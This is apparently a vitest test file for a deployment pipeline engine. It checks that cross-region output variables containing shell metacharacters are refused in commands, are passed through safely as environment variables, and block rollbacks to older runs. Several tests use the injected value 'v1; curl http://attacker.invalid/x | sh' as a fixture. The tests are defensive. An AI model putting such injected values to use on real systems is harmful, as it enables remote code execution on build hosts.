import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { Action, EnvironmentVariable } from '../../src/domain/pipeline.js';
import type { Engine } from '../../src/engine/engine.js';
import type { StateStore } from '../../src/stores/state/state-store.js';
import { prepareJob } from '../../src/engine/dispatch/job-specs.js';
import { planRollback } from '../../src/engine/rollback.js';
import { testPipeline } from '../helpers/pipeline.js';
import { openSqliteEngine } from '../helpers/sqlite-engine.js';
import { tempDir } from '../helpers/temp.js';

function action(name: string, region: string, commands: string[], extra: Partial<Action> = {}): Action {
  return {
    name,
    type: { category: 'Compute', owner: 'AWS', provider: 'Commands', version: '1' },
    runOrder: 1,
    region,
    configuration: {},
    inputArtifacts: [],
    outputArtifacts: [],
    commands,
    ...extra,
  };
}

const env = (name: string, value: string): EnvironmentVariable => ({ name, value, type: 'PLAINTEXT' });

const pipeline = testPipeline({
  name: 'crossing',
  regions: ['eu', 'us'].map((name) => ({ name, timezone: 'UTC', store: { kind: 'folder' as const, location: `stores/${name}` } })),
  stages: [
    { name: 'Build', actions: [action('build', 'eu', ['true'], { namespace: 'B', outputVariables: ['TAG'] })] },
    {
      name: 'Deploy',
      actions: [
        action('us-inline', 'us', ['deploy --tag #{B.TAG}'], { configuration: { tag: '#{B.TAG}' } }),
        action('us-env', 'us', ['deploy --tag "$TAG"'], { environmentVariables: [env('TAG', '#{B.TAG}')] }),
        action('eu-inline', 'eu', ['deploy --tag #{B.TAG}'], { configuration: { tag: '#{B.TAG}' } }),
      ],
    },
  ],
});

const closers: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const close of closers.splice(0)) await close();
});

let tick = Date.parse('2026-12-05T10:00:00.000Z');
const clock = { now: () => new Date((tick += 1)) };

const context = { parameters: {}, variables: {}, sourceOverrides: {}, stores: {} };

/** Starts an execution and completes its build with `tag` as the output variable; resolves with its id. */
async function built(engine: Engine, store: StateStore, tag: string): Promise<string> {
  const id = await engine.start(pipeline, { type: 'cli' }, context);
  const [build] = await store.jobs(store.db, id, 'queued');
  await engine.completeJob(build!, { status: 'Succeeded', outputVariables: { TAG: tag } });
  return id;
}

/** Runs the build with `tag` as its output variable and returns the Deploy stage's specs by action name. */
async function deploySpecs(tag: string): Promise<Map<string, Awaited<ReturnType<typeof prepareJob>>>> {
  const { engine, store } = await openSqliteEngine(path.join(tempDir(), 'state'), clock, 'test-host:1:abc', closers);
  const id = await built(engine, store, tag);
  const specs = new Map<string, Awaited<ReturnType<typeof prepareJob>>>();
  for (const job of await store.jobs(store.db, id, 'queued')) {
    const spec = await prepareJob(store, job);
    specs.set(spec.action.name, spec);
  }
  return specs;
}

describe('an output variable set in one region and substituted into commands of another', () => {
  it('is refused when a shell would interpret it, with the way to pass it as data', async () => {
    const specs = await deploySpecs('v1; curl http://attacker.invalid/x | sh');
    const inline = specs.get('us-inline')!;
    expect(inline.problem?.code).toBe('ACTION_FAILED');
    expect(inline.problem?.message).toContain('command 1 of us-inline (region us) substitutes #{B.TAG}, an output variable set in region eu');
    expect(inline.problem?.message).toContain(`env: { VALUE: '#{B.TAG}' }`);
    // The commands are not resolved: nothing of the value reaches the agent as code.
    expect(inline.action.commands).toEqual(['deploy --tag #{B.TAG}']);
  });

  it('passes through an environment variable, and within its own region, unchanged', async () => {
    const value = 'v1; curl http://attacker.invalid/x | sh';
    const specs = await deploySpecs(value);
    expect(specs.get('us-env')!.problem).toBeUndefined();
    expect(specs.get('us-env')!.action.environmentVariables?.[0]?.value).toBe(value);
    expect(specs.get('eu-inline')!.problem).toBeUndefined();
    expect(specs.get('eu-inline')!.action.commands).toEqual([`deploy --tag ${value}`]);
  });

  it('is substituted when it holds only characters no shell interprets (tags, digests, URLs)', async () => {
    const tag = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/api:1.4.2-rc.1@sha256:0a1b,x=y+z~%2F';
    const specs = await deploySpecs(tag);
    expect(specs.get('us-inline')!.problem).toBeUndefined();
    expect(specs.get('us-inline')!.action.commands).toEqual([`deploy --tag ${tag}`]);
  });
});

describe('a rollback to a run whose commands substituted such a value', () => {
  // A run can hold one only if it was recorded before the check existed: its deploy jobs are
  // completed here without their job specs, as an older Meridian ran them.
  it('is not taken as a good run, and --to that run is refused with why', async () => {
    const { engine, store } = await openSqliteEngine(path.join(tempDir(), 'state'), clock, 'test-host:1:abc', closers);
    const older = await built(engine, store, 'v1; curl http://attacker.invalid/x | sh');
    for (const job of await store.jobs(store.db, older, 'queued')) await engine.completeJob(job, { status: 'Succeeded', outputVariables: {} });
    expect((await store.snapshot(store.db, older)).execution.status).toBe('Succeeded');
    const forward = await built(engine, store, 'v2');
    const snapshot = await store.snapshot(store.db, forward);

    const plan = await planRollback(store, store.db, snapshot, 1, ['us', 'eu']);
    expect(plan.without).toEqual(['us']);
    expect(plan.groups.map((g) => [g.target, g.regions])).toEqual([[older, ['eu']]]);

    const refused = planRollback(store, store.db, snapshot, 1, ['us'], older);
    await expect(refused).rejects.toMatchObject({ code: 'CONFLICT' });
    await expect(refused).rejects.toThrow(`execution ${older} cannot be gone back to in us: command 1 of us-inline (region us) substitutes #{B.TAG}`);
  });
});
